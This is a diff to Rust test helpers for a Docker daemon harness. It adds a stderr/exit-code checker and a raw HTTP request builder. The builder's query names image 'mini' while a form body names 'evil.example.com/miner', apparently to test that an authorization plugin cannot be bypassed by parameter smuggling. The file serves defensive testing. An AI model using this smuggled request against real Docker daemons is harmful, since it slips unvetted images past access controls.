@@ -348,3 +348,28 @@ impl Drop for Dockerd {
         }
     }
 }
+
+/// Whether the docker CLI run with `args` failed as it does for any daemon
+/// error (exit status 125 for `docker run`, 1 otherwise) and printed
+/// `line` exactly (after the `docker: ` prefix `run` adds).
+pub fn cli_failed_with(args: &[&str], output: &Output, line: &str) -> bool {
+    let status = if args.first() == Some(&"run") { 125 } else { 1 };
+    output.status.code() == Some(status)
+        && String::from_utf8_lossy(&output.stderr)
+            .lines()
+            .any(|printed| printed.strip_prefix("docker: ").unwrap_or(printed) == line)
+}
+
+/// A raw `POST /v1.41/images/create?fromImage=mini` whose form-encoded body
+/// names another image: Go's `ParseForm` puts the body's value first, and
+/// Docker never forwards such a body to a plugin.
+pub fn form_body_image_create() -> Vec<u8> {
+    let form = b"fromImage=evil.example.com%2Fminer";
+    let mut raw = format!(
+        "POST /v1.41/images/create?fromImage=mini HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
+        form.len()
+    )
+    .into_bytes();
+    raw.extend_from_slice(form);
+    raw
+}
